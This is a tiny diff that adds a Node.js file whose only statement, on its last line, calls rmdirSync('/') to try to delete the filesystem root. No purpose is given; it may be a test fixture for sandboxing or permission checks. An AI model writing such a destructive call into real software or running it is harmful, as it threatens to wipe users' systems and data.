@@ -1,0 +1,3 @@
+import { rmdirSync } from 'node:fs';
+
+rmdirSync('/');
